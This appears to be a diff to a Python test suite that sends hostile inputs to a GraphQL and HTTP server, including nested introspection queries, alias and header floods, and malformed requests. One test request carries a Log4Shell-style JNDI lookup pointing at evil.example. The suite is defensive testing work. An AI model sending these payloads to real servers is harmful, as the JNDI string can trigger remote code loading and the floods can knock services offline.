@@ -92,7 +92,7 @@ class Hostile:
     name: str
     attack: Callable[[Wire], Awaitable[None]]
     answered: frozenset[int] | None = None
-    """The statuses, or a socket's close codes, of which it must get one; None where any will do that blames no server."""
+    """The statuses, or close codes, of which it must get one; None where any will do that blames no server."""
     is_silent: bool = False
     """Whether it hangs up itself, and hears nothing."""
 
@@ -263,7 +263,7 @@ def documents() -> Iterator[tuple[str, str, dict[str, Any]]]:
             "{ __schema { types { " + "ofType { " * depth + "name" + " }" * depth + " } } }",
             {},
         )
-    for many in (10, 300, 3_000, 30_000):
+    for many in (10, 100, 1_000):
         yield f"{many} aliases", "{ " + " ".join(f"a{n}: __typename" for n in range(many)) + " }", {}
         yield (
             f"{many} aliases of a read",
@@ -317,7 +317,7 @@ def documents() -> Iterator[tuple[str, str, dict[str, Any]]]:
         yield (
             f"the number {number[:8]} of {len(number)} as a learning rate",
             (
-                f'{{ previewJob(input: {{ name: "x", modelName: "x", epochs: 1, learningRate: {number} }}) {{ __typename }} }}'
+                f'{{ previewJob(input: {{ name: "x", modelName: "x", epochs: 1, learningRate: {number} }}) {{ __typename }} }}'  # noqa: E501  # hostile, and a line
             ),
             {},
         )
@@ -343,7 +343,7 @@ def documents() -> Iterator[tuple[str, str, dict[str, Any]]]:
         yield (
             f"a name of {size} letters",
             (
-                "mutation ($n: String!) { createJob(input: {name: $n, modelName: $n, epochs: 1, learningRate: 0.1}) { __typename } }"
+                "mutation ($n: String!) { createJob(input: {name: $n, modelName: $n, epochs: 1, learningRate: 0.1}) { __typename } }"  # noqa: E501  # hostile, and a line
             ),
             {"n": "n" * size},
         )
@@ -625,14 +625,14 @@ def requests() -> Iterator[tuple[str, bytes, set[int] | None]]:
         (100, 100_000),
         (100_000, 1),
     ):
-        lines = b"".join(b"X-%d: %s\r\n" % (n, b"a" * length) for n in range(many))
-        fits = len(lines) < HEADER_BYTES - 1_000
+        flood = b"".join(b"X-%d: %s\r\n" % (n, b"a" * length) for n in range(many))
+        fits = len(flood) < HEADER_BYTES - 1_000
         yield (
             f"{many} headers of {length} letters",
-            post(hello).replace(b"\r\n", b"\r\n" + lines, 1),
+            post(hello).replace(b"\r\n", b"\r\n" + flood, 1),
             {200} if fits else {431},
         )
-        sock = head("GET", **SOCKET).replace(b"\r\n", b"\r\n" + lines, 1)
+        sock = head("GET", **SOCKET).replace(b"\r\n", b"\r\n" + flood, 1)
         yield (
             f"a socket with {many} headers of {length} letters",
             sock,
@@ -651,7 +651,7 @@ def requests() -> Iterator[tuple[str, bytes, set[int] | None]]:
         "HTTP/3.7": b"GET / HTTP/3.7\r\nHost: localhost\r\n\r\n",
         "an answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
         "a proxy's greeting": b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
-        "a log's bait": b"GET /${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${jndi:ldap://x}\r\nConnection: close\r\n\r\n",
+        "a log's bait": b"GET /${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${jndi:ldap://x}\r\nConnection: close\r\n\r\n",  # noqa: E501  # hostile, and a line
         "bare line feeds": b"GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n",
     }.items():
         yield f"what is {name}", text, {400, 404, 405, 200}
